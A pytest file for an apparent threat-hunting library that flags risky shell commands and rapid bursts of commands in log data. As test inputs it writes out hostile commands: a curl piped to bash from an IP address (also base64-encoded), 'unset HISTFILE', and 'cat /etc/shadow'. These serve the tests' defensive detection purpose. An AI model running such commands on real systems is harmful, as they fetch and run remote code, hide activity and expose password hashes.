"""Risky and hurried commands in the shapes that msticpy's users know."""

import base64
import itertools
import json
from datetime import UTC, datetime, timedelta

import pandas as pd
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from huntkit.core.errors import SettingsError, UnknownColumn, UsageError
from huntkit.extract import cmd_speed, command_bursts, risky_cmd_line

START = datetime(2024, 5, 1, tzinfo=UTC)


def commands(*lines: str | None, seconds: list[float] | None = None) -> pd.DataFrame:
    times = [START + timedelta(seconds=s) for s in (seconds or range(len(lines)))]
    return pd.DataFrame({"TimeGenerated": times, "Command": list(lines)})


def test_risky_commands_by_their_time():
    found = risky_cmd_line(commands("ls", "unset HISTFILE", "cat a"), "Syslog")
    assert found == {START + timedelta(seconds=1): "unset HISTFILE"}


def test_a_shell_is_not_risky_and_the_input_is_not_changed():
    events = commands("/bin/bash", "/bin/bash -c ls", None)
    before = events.copy()
    assert risky_cmd_line(events, "Syslog") == {}
    pd.testing.assert_frame_equal(events, before)


def test_what_base64_hides_is_matched():
    hidden = base64.b64encode(b"curl http://203.0.113.5/x | bash; unset HISTFILE").decode()
    line = f"run-it {hidden}"
    assert list(risky_cmd_line(commands(line)).values()) == [line]


def test_commands_of_one_time_are_all_told():
    events = commands("unset HISTFILE", "ls", "cat /etc/shadow", seconds=[7, 7, 7])
    assert list(risky_cmd_line(events).values()) == ["unset HISTFILE\ncat /etc/shadow"]


def test_own_rules_in_both_forms(tmp_path):
    old = tmp_path / "rules.json"
    old.write_text(json.dumps({"Syslog": [".*secret.*"], "Other": ["("]}))
    events = commands("unset HISTFILE", "cat secret.txt")
    assert list(risky_cmd_line(events, "Syslog", str(old)).values()) == ["cat secret.txt"]
    with pytest.raises(UsageError, match="did you mean 'Syslog'"):
        risky_cmd_line(events, "Sylog", str(old))
    with pytest.raises(SettingsError, match=r"'\('"):
        risky_cmd_line(events, "Other", str(old))
    new = tmp_path / "rules.yaml"
    new.write_text(
        "- {id: mine, title: Mine, why: Ours., level: high, technique: T1005, tactic: collection,"
        " words: [secret], all: ['secret']}"
    )
    assert list(risky_cmd_line(events, detection_rules=new).values()) == ["cat secret.txt"]
    for text in ("[1]", "{", '{"Syslog": "x"}'):
        old.write_text(text)
        with pytest.raises(SettingsError):
            risky_cmd_line(events, "Syslog", old)


def test_missing_columns_are_told():
    with pytest.raises(UnknownColumn, match="did you mean 'Command'"):
        risky_cmd_line(commands("ls"), cmd_field="Comand")
    with pytest.raises(UsageError, match="time"):
        risky_cmd_line(pd.DataFrame({"Command": ["ls"]}))


def test_bursts_keep_hosts_apart_and_merge_overlapping_windows():
    frame = pl.DataFrame({
        "TimeGenerated": [START + timedelta(seconds=s) for s in (0, 1, 2, 3, 0, 60, 61, 62)],
        "Computer": ["a", "a", "a", "a", "b", "b", "a", "b"],
        "CommandLine": list("pqrsxyzw"),
    })  # fmt: skip
    found = command_bursts(frame, seconds=2, events=3)
    assert found.select("SourceIndex", "Seconds", "Events", "Group").rows() == [(0, 3.0, 4, "a")]
    assert found["Commands"].to_list() == [["p", "q", "r", "s"]]
    pairs = command_bursts(frame, seconds=2, events=2)
    assert pairs["Group"].to_list() == ["a", "b"]
    assert command_bursts(frame, seconds=2, events=2, by=[])["Events"].to_list() == [5, 3]


def test_cmd_speed_gives_the_callers_rows():
    events = commands(*"abcdef", seconds=[0, 1, 2, 50, 100, 101])
    events.index = pd.Index([f"r{n}" for n in range(6)])
    (burst,) = cmd_speed(events, "Command", 5, 3)
    ((index, (rows, took)),) = burst.items()
    assert index == "r0"
    assert rows.index.to_list() == ["r0", "r1", "r2"]
    assert took == timedelta(seconds=2)
    assert cmd_speed(events, "Command", 5, 4) == []
    (polars,) = cmd_speed(pl.from_pandas(events), "Command", 5, 3)
    assert polars[0][0]["Command"].to_list() == ["a", "b", "c"]


@pytest.mark.parametrize("options", [{"events": 1}, {"seconds": -1}, {"seconds": float("nan")}])
def test_empty_windows_are_refused(options):
    with pytest.raises(UsageError, match="burst"):
        command_bursts(commands("a"), "Command", **options)


def test_nothing_gives_nothing():
    empty = commands().astype({"TimeGenerated": "datetime64[us, UTC]", "Command": "str"})
    assert risky_cmd_line(empty) == {}
    assert cmd_speed(empty, "Command") == []
    assert len(command_bursts(empty, "Command")) == 0


@given(
    st.lists(st.tuples(st.integers(0, 12), st.sampled_from("ab")), max_size=12),
    st.integers(0, 4),
    st.integers(2, 4),
)
def test_bursts_are_what_the_definition_says(rows, seconds, events):
    frame = pl.DataFrame(
        {
            "time": [START + timedelta(seconds=s) for s, _ in rows],
            "host": [host for _, host in rows],
            "command": [str(n) for n in range(len(rows))],
        },
        schema={"time": pl.Datetime("us", "UTC"), "host": pl.String, "command": pl.String},
    )
    wanted = set()
    for host in "ab":
        mine = sorted((s, n) for n, (s, h) in enumerate(rows) if h == host)
        for start in range(len(mine) - events + 1):
            window = mine[start : start + events]
            if window[-1][0] - window[0][0] <= seconds:
                wanted.update(n for _, n in window)
    found = command_bursts(frame, "command", seconds=seconds, events=events)
    assert set(found.explode("Rows")["Rows"].drop_nulls()) == wanted
    assert found["Rows"].explode().drop_nulls().is_unique().all()
    for first, times in zip(found["First"], found["Rows"], strict=True):
        clock = [rows[n][0] for n in times]
        assert clock == sorted(clock)
        assert START + timedelta(seconds=clock[0]) == first
        for one, other in itertools.pairwise(clock):
            assert other - one <= seconds
    assert (found["Events"] >= events).all()
